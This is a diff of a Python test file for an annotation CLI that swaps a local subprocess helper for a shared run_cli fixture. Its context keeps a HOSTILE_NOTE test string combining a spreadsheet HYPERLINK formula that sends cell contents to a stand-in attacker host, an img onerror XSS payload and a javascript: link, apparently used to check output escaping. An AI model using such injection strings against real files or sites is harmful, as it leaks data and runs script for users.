@@ -8,8 +8,6 @@ import csv
 import io
 import json
 import os
-import subprocess
-import sys
 from html.parser import HTMLParser
 
 import pytest
@@ -19,7 +17,7 @@ from annotate.commands.printing import print_json
 from annotate.model import PixelGeometry
 from annotate.store import create_project
 from annotate.tiles import add_tile_file
-from tests.conftest import ROOT, SAMPLES
+from tests.conftest import SAMPLES, run_cli
 
 HOSTILE_NOTE = "=HYPERLINK(\"http://evil.example/\"&A1)\x07\n# heading <img src=x onerror=alert(1)> [x](javascript:alert(3))"
 
@@ -39,9 +37,7 @@ def tags_of(html: str) -> list[tuple[str, dict]]:
     return parser.tags
 
 
-def cli(*args):
-    return subprocess.run([sys.executable, "-m", "annotate.cli", *map(str, args)], capture_output=True, text=True,
-                          cwd=ROOT, timeout=300)
+cli = run_cli  # `annotate …` in its own process (tests/conftest.py)
 
 
 @pytest.fixture
